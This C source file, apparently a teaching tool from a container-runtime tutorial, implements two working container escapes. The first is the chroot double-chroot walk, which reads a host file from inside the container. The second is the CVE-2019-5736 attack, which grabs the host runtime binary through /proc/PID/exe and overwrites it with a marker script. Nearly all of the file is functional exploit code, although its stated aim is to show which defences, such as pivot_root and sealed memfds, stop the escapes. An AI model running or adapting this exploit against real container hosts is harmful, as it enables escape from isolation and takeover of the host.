/*
 * breakout — two ways out of a container, tried from inside.
 *
 *   breakout [FILE]                the chroot walk (step08's lesson)
 *   breakout exe PID|any SECONDS   overwrite the runtime (step10's)
 *
 * The chroot walk: FILE is what to read once out (default
 * /etc/hostname). chroot(2) changes one thing: where "/" starts for this
 * process's path lookups. It does not move the current directory, and
 * the kernel stops a ".." only at the process's root. So a process
 * allowed to call chroot (CAP_SYS_CHROOT, which root inside a container
 * has):
 *   1. makes a directory and chroots into it, while its current directory
 *      stays where it was: now *outside* its root;
 *   2. goes up with chdir("..") as often as it likes: no ".." meets the
 *      root on the way, until the real "/" of the mount namespace, where
 *      ".." is "." again;
 *   3. chroots to "." there: it sees the whole tree again.
 * After pivot_root and the old root unmounted there is no whole tree to
 * go back to: the walk up ends at the rootfs, and FILE is not there.
 *
 * The runtime's binary (CVE-2019-5736): a process of the runtime that the
 * container can see (PID, or the first other process whose exe can be
 * opened, within SECONDS: `any`) has its file behind /proc/PID/exe, on
 * the host, whatever the mounts. Hold it (O_PATH), say what it is, then
 * for SECONDS try to reopen it for writing through /proc/self/fd/N (it is
 * busy while a runtime process runs it: ETXTBSY) and write over its
 * first bytes. Exit 0 if that worked; else 1, with the error on stdout.
 *
 * Static (make breakout), so it runs in any root filesystem.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define SEALS (F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE)

static int fail(const char *what)
{
	fprintf(stderr, "breakout: %s: %s\n", what, strerror(errno));
	return 2;
}

/* Seconds since an unspecified start. */
static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* /proc/PID/exe opened O_PATH, or -1 (not there, or not ours to open:
 * a process that is not dumpable). */
static int open_exe(long pid)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
	return open(path, O_PATH | O_CLOEXEC);
}

/* The first process but us whose exe opens and is not our own file; its
 * pid in *PID. Until DEADLINE; -1 if none. */
static int find_exe(double deadline, long *pid)
{
	struct stat self, st;

	if (stat("/proc/self/exe", &self) < 0)
		return -1;
	do {
		DIR *dir = opendir("/proc");
		struct dirent *e;
		int fd = -1;

		if (!dir)
			return -1;
		while (fd < 0 && (e = readdir(dir))) {
			*pid = strtol(e->d_name, NULL, 10);
			if (*pid <= 0 || *pid == getpid() || (fd = open_exe(*pid)) < 0)
				continue;
			if (fstat(fd, &st) == 0 && st.st_dev == self.st_dev &&
			    st.st_ino == self.st_ino) {
				close(fd);
				fd = -1;
			}
		}
		closedir(dir);
		if (fd >= 0)
			return fd;
	} while (now() < deadline);
	return -1;
}

/* "a sealed memfd" or "not sealed": what a write to EXE will meet. */
static const char *seal_state(int exe)
{
	char path[64];
	int fd, seals;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return "unreadable";
	seals = fcntl(fd, F_GET_SEALS);
	close(fd);
	return seals >= 0 && (seals & SEALS) == SEALS ? "a sealed memfd" : "not sealed";
}

static int overwrite_exe(const char *who, double seconds)
{
	static const char marker[] = "#!/bin/sh\necho pwned by a container\n";
	double deadline = now() + seconds;
	char path[64], target[256] = "";
	long pid = 0;
	ssize_t n;
	int exe, fd;

	if (strcmp(who, "any") == 0) {
		exe = find_exe(deadline, &pid);
	} else {
		pid = strtol(who, NULL, 10);
		exe = open_exe(pid);
	}
	if (exe < 0) {
		printf("breakout: exe: no runtime process to hold (%s): %s\n", who,
		       strerror(errno));
		return 2;
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
	n = readlink(path, target, sizeof(target) - 1);
	target[n > 0 ? n : 0] = '\0';
	printf("breakout: exe: holding /proc/%ld/exe -> %s, %s\n", pid, target, seal_state(exe));
	fflush(stdout);
	/* Busy while a runtime process runs it: wait for the last to go. */
	while ((fd = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && now() < deadline)
		usleep(2000);
	if (fd < 0) {
		printf("breakout: exe: reopen for writing: %s\n", strerror(errno));
		return 1;
	}
	n = pwrite(fd, marker, sizeof(marker) - 1, 0);
	if (n < 0) {
		printf("breakout: exe: write: %s\n", strerror(errno));
		return 1;
	}
	printf("breakout: exe: out: wrote %zd bytes over the runtime's binary\n", n);
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	const char *file = argc > 1 ? argv[1] : "/etc/hostname";
	char jail[] = "/tmp/breakout.XXXXXX", buf[4096];
	ssize_t n;
	int fd;

	if (argc == 4 && strcmp(argv[1], "exe") == 0)
		return overwrite_exe(argv[2], strtod(argv[3], NULL));
	if (chdir("/tmp") < 0)
		return fail("chdir(\"/tmp\")");
	if (!mkdtemp(jail))
		return fail("mkdtemp(\"/tmp/breakout.XXXXXX\")");
	/* 1: root moves into the jail, the current directory stays in /tmp. */
	if (chroot(jail) < 0)
		return fail("chroot(jail)");
	/* 2: up and up; at the real "/" of the namespace, ".." stays there. */
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			return fail("chdir(\"..\")");
	/* 3: make that the root. */
	if (chroot(".") < 0)
		return fail("chroot(\".\")");
	fd = open(file, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		fprintf(stderr, "breakout: still inside: %s: %s\n", file, strerror(errno));
		return 1;
	}
	printf("breakout: out: %s says: ", file);
	fflush(stdout);
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		if (write(STDOUT_FILENO, buf, (size_t)n) != n)
			return fail("write");
	if (n < 0)
		return fail("read");
	close(fd);
	return 0;
}
